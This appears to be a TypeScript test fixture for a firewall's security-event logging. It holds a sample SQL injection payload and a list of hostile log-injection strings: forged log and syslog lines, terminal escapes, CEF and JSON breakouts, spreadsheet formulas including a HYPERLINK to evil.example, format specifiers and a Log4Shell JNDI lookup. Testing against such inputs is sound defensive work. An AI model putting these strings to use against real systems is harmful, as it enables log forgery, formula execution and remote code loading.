import { toInputFault } from '../../../verdict/input-fault.js';
import { type EventContext, type SecurityEvent, toSecurityEvent } from '../../security-event.js';

/** A time of this machine's zone, so that local times can be written down in tests. */
export const SAMPLE_TIME = new Date(2026, 2, 7, 9, 5, 3, 250);

const CONTEXT: EventContext = {
  application: 'Web Server',
  address: '203.0.113.7',
  country: 'Australia',
  method: 'GET',
  target: '/search?q=1',
  action: 'blocked',
  revision: 3,
  requestId: 'req-1',
  alsoIn: [],
};

/** An event as the engine makes it, with some of its fields replaced. */
export function sampleEvent(fields: Partial<SecurityEvent> = {}): SecurityEvent {
  const payload = "1' OR '1'='1";
  const finding = {
    ...toInputFault({ mode: 1, location: 'qs_values', path: 'q', payload, explanation: 'why' }),
    check: 'sqli',
  };
  return { ...toSecurityEvent(finding, CONTEXT), time: SAMPLE_TIME, ...fields };
}

/** An event whose every text, the attacker's and the owner's, is this one. */
export function hostileEvent(text: string): SecurityEvent {
  return sampleEvent({
    application: text,
    country: text,
    path: text,
    payload: text,
    method: text,
    target: text,
    explanation: text,
  });
}

/** Texts that log injection is made of. */
export const HOSTILE_TEXTS = [
  'a\nb',
  'a\r\n[2026/01/01 00:00:00] "x" - "sqli" - "1.2.3.4" - "Private" - "path:forged"',
  '\n<34>1 2026-01-01T00:00:00Z host su - - - forged',
  'a\u001b[31mred\u001b[0m',
  'a\u0085b\u2028c\u2029d\u0000e\u009b31mf\u007f',
  'x" - "y" - "=1+1',
  '\\" - \\',
  '"] [forged@1 a="b"]',
  ']',
  'a|b|c|9|act=allowed src=9.9.9.9 msg=forged',
  'a\\|b\\=c\\',
  '"},"class_uid":1,"x":{"y":"',
  '=HYPERLINK("http://evil.example")',
  '+1+1',
  '-1+1',
  '@SUM(1)',
  '\t=1+1',
  '\u202egnp.exe',
  '\ud800 lone \udc00',
  '%s%n%x',
  ['$', '{jndi:ldap://a/b}'].join(''),
];
